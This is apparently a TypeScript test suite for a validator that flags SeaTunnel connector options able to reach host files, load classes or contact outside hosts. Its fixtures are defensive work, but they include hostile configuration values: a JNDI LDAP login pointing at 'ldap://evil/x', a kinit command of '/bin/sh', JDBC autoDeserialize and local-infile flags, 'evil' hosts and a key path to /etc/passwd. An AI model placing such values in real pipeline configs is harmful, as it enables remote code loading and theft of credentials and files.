import { documentOf } from '../../__testUtils__/engineTest';
import { FlinkTargetConfig } from '../../targetType/FlinkTargetConfig';
import { reachProblems } from './reachProblems';

const pointersOf = (
  connector: string,
  options: object,
  sql?: FlinkTargetConfig['sql'],
) =>
  reachProblems(
    documentOf({
      type: 'seatunnel',
      mode: 'batch',
      nodes: [{ id: 'n', kind: 'source', connector, options }],
      edges: [],
    }),
    { restUrl: 'http://flink', ...(sql && { sql }) },
  ).map(it => it.pointer);

it.each(['DynamicCompile', 'ClickhouseFile'])(
  '%s runs where code may be brought',
  connector => {
    expect(pointersOf(connector, {})).toEqual(['/spec/nodes/0']);
    expect(pointersOf(connector, {}, { allowJars: true })).toEqual([]);
  },
);

it.each([
  ['HdfsFile', { 'fs.defaultFS': 'file:///' }, 'fs.defaultFS'],
  ['HdfsFile', { 'fs.defaultFS': '/' }, 'fs.defaultFS'],
  ['HdfsFile', { path: 'FILE:/etc' }, 'path'],
  ['Hudi', { table_dfs_path: '/srv/x' }, 'table_dfs_path'],
  ['Neo4j', { parameters: { a: 'file:///' } }, 'parameters'],
])('%s %j reaches into the machines', (connector, options, option) => {
  expect(pointersOf(connector, options)).toEqual([
    `/spec/nodes/0/options/${option}`,
  ]);
});

it('reaches what is allowed, and what is elsewhere', () => {
  const sql = { allowedPaths: ['/srv/lake'] };
  expect(pointersOf('Hudi', { table_dfs_path: '/srv/lake/a' }, sql)).toEqual(
    [],
  );
  expect(pointersOf('Hudi', { table_dfs_path: '/srv/x' }, sql)).toHaveLength(1);
  expect(
    pointersOf('HdfsFile', { 'fs.defaultFS': 'hdfs://n:9000', path: '/a' }),
  ).toEqual([]);
});

it.each<[string, object, string]>([
  [
    'Kafka',
    {
      'kafka.config': {
        'sasl.jaas.config':
          'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";',
      },
    },
    'kafka.config',
  ],
  // As SeaTunnel reads it, an object is as good as dots.
  [
    'Kafka',
    { kafka: { config: { sasl: { 'kerberos.kinit.cmd': '/bin/sh' } } } },
    'kafka',
  ],
  [
    'Kafka',
    { table_list: [{ 'kafka.config': { 'bootstrap.servers': 'evil:9092' } }] },
    'table_list',
  ],
  [
    'Kafka',
    { 'kafka.config': { 'interceptor.classes': 'x.Y' } },
    'kafka.config',
  ],
  [
    'Kafka',
    { 'kafka.config': { 'ssl.keystore.location': '/etc/flink/key.jks' } },
    'kafka.config',
  ],
  [
    'Kafka',
    { table_list: [{ 'bootstrap.servers': 'evil:9092' }] },
    'table_list',
  ],
  // SeaTunnel reads a text as JSON.
  ['Kafka', { table_list: [{ 'kafka.config': '{"a.b":"c"}' }] }, 'table_list'],
  ['Jdbc', { properties: { socketFactory: 'x.Y' } }, 'properties'],
  ['Jdbc', { properties: { autoDeserialize: 'true' } }, 'properties'],
  ['Jdbc', { properties: { AllowLoadLocalInfile: 'true' } }, 'properties'],
  ['Jdbc', { properties: { socksProxyHost: 'evil' } }, 'properties'],
  [
    'Jdbc',
    { xa_data_source_class_name: 'com.evil.Xa' },
    'xa_data_source_class_name',
  ],
  ['MySQL-CDC', { debezium: { 'database.hostname': 'evil' } }, 'debezium'],
  [
    'MySQL-CDC',
    { debezium: { converters: 'a', 'a.type': 'com.evil.A' } },
    'debezium',
  ],
  [
    'Clickhouse',
    { 'clickhouse.config': { proxy_host: 'x' } },
    'clickhouse.config',
  ],
  [
    'S3File',
    { hadoop_s3_properties: { 'fs.s3a.endpoint': 'http://evil' } },
    'hadoop_s3_properties',
  ],
  [
    'S3File',
    {
      hadoop_s3_properties: {
        'fs.s3a.aws.credentials.provider':
          'com.amazonaws.auth.InstanceProfileCredentialsProvider',
      },
    },
    'hadoop_s3_properties',
  ],
  [
    'Hive',
    { kerberos_keytab_path: '/etc/flink.keytab' },
    'kerberos_keytab_path',
  ],
  [
    'Pulsar',
    { 'auth.params': '{"privateKey":"file:///etc/passwd"}' },
    'auth.params',
  ],
])('%s %j makes a driver reach further', (connector, options, option) => {
  const found = pointersOf(connector, options);
  expect(found.length).toBeGreaterThan(0);
  expect(new Set(found)).toEqual(new Set([`/spec/nodes/0/options/${option}`]));
  const allowed = { allowJars: true, allowedPaths: ['/etc'] };
  expect(pointersOf(connector, options, allowed)).toEqual([]);
});

it.each<[string, object]>([
  [
    'Kafka',
    {
      'kafka.config': {
        'max.poll.records': '500',
        'auto.offset.reset': 'earliest',
        'security.protocol': 'SASL_SSL',
        'sasl.jaas.config':
          'org.apache.kafka.common.security.plain.PlainLoginModule required username="a";',
      },
    },
  ],
  ['Jdbc', { properties: { rewriteBatchedStatements: 'true' } }],
  ['MySQL-CDC', { debezium: { 'snapshot.mode': 'initial' } }],
  ['S3File', { hadoop_s3_properties: { 'fs.s3a.path.style.access': 'true' } }],
  ['Paimon', { 'paimon.hadoop.conf': { 'fs.defaultFS': 'hdfs://n:9000' } }],
  // Columns may be called anything.
  ['FakeSource', { schema: { fields: { properties: { a: 'int' } } } }],
  ['Http', { params: { properties: 'x' } }],
])('%s %j reaches no further', (connector, options) => {
  expect(pointersOf(connector, options)).toEqual([]);
});

it('keeps the tables of a catalog out of the machines', () => {
  const document = documentOf({
    type: 'seatunnel',
    mode: 'batch',
    nodes: [{ id: 'n', kind: 'sink', connector: 'Paimon', dataSource: 'lake' }],
    edges: [],
  });
  const found = (warehouse: string) =>
    reachProblems(
      document,
      { restUrl: 'http://flink', sql: { allowedPaths: ['/srv/lake'] } },
      {
        lake: {
          dataSource: 'lake',
          type: 'paimon-catalog',
          config: { warehouse },
        },
      },
    ).map(({ message }) => message);
  expect(found('/etc')).toEqual([expect.stringContaining('"/etc"')]);
  expect(found('file:///etc')).toHaveLength(1);
  expect(found('/srv/lake/a')).toEqual([]);
  expect(found('s3a://lake/a')).toEqual([]);
});
